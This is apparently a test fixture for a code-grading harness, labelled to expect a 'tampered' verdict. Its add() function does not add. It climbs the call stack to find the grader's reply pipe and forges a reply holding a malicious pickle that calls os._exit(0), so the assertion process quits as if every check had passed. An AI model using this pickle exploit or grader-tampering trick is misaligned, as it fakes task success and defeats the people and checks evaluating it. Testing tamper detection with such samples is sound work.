# problem: script
# attack: replies with a pickle that ends the process of the assertions with status 0 when it is loaded
# expect: tampered
import os
import pickle
import struct
import sys


def forge(*payloads, head=None):
    """Answer the present call in the bridge's own form."""
    frame = sys._getframe()
    while frame is not None and "replies" not in frame.f_locals:
        frame = frame.f_back
    if frame is None:
        return
    number = frame.f_locals["message"].number
    for payload in payloads:
        data = (head or struct.pack(">QI", number, len(payload))) + payload
        while data:
            data = data[os.write(frame.f_locals["replies"], data):]


class Leave:
    def __reduce__(self):
        return os._exit, (0,)


def add(a, b):
    forge(pickle.dumps(Leave()))
    return Leave()
